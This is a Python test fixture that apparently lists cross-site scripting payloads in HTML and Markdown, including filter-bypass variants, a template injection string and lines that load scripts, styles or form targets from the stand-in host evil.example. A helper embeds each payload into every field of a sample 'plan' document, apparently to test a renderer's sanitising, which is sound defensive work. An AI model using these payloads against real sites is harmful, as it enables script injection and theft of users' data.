"""Texts that try to make a browser run, load or send something, each put into every part of a plan."""

from __future__ import annotations

RUN = "alert(1);window.ran=1"

HTML = [
    f"<script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\x0c>{RUN}</script>",
    f"<script/x>{RUN}</script >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror='{RUN}'>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<svg onload='{RUN}'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror='{RUN}'>",
    f"<body onload='{RUN}'>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    f"<video><source onerror='{RUN}'></video>",
    f"<audio src=x onerror='{RUN}'>",
    f"<marquee onstart='{RUN}'>x</marquee>",
    f"<style>@import '//evil.example/x.css';*{{background:url(javascript:{RUN})}}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//evil.example/>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"'\"><script>{RUN}</script>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"<a href='javascript:{RUN}'>x</a>",
    f"<p title=`{RUN}` onclick={RUN}>x",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "<x id=kb-timeout data-extend-url=//evil.example>",
    "<form id=search action=//evil.example><input name=q>",
]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](//evil.example 'a\" onmouseover=\"{RUN}')",
    f"<javascript:{RUN}>",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    "![x](//evil.example/x.png)",
    f'![x](x" onerror="{RUN})',
    f"![x](javascript:{RUN})",
    f"![{'<script>' + RUN + '</script>'}](x)",
    f'```html"><script>{RUN}</script>\nx\n```',
    f"`<script>{RUN}</script>`",
    f"    <script>{RUN}</script>",
    f"# <img src=x onerror={RUN}> {{#x onclick={RUN}}}",
    f"| a | b |\n|---|---|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |",
    f"term\n: <script>{RUN}</script>",
    f"[^1]: <script>{RUN}</script>\n\nx[^1]",
    f"*[x]: <script>{RUN}</script>\n\nx",
    f"> <script>{RUN}</script>",
    f"- <script>{RUN}</script>\n    - [x](javascript:{RUN})",
    f'x{{: onclick="{RUN}" style="x:y" }}',
    "{{ config.items() }}{% print(1) %}",
    f"\x00<scr\x00ipt>{RUN}</script>",
    f"\u202e<script>{RUN}</script>",
]
PAYLOADS = [*HTML, *MARKDOWN]


def as_plan(payload: str) -> bytes:
    """A plan with the payload in its title, header, headings, fields, notes and prose."""
    line = " ".join(payload.split())
    quoted = line.replace("'", "''")
    return f"""---
title: 'Hostile {quoted}'
marking: OFFICIAL
handling: '{quoted}'
owner: '{quoted}'
odd key: '{quoted}'
---

# Hostile {line}

## Purpose {line}

{payload}

{payload} again, within a line: x {line} y

## Requirements

### HOST-01: Who {line} is asked?

- **Priority:** 1
- **Theme:** {line}
- **Gap:** {line}
- **Indicators:**
    - {line}
    - another {line}
- **Collector:** {line}
- **{line}:** {line}

{payload}

### HOST-01: The same reference again {line}

{payload}
""".encode("utf-8", errors="surrogatepass")
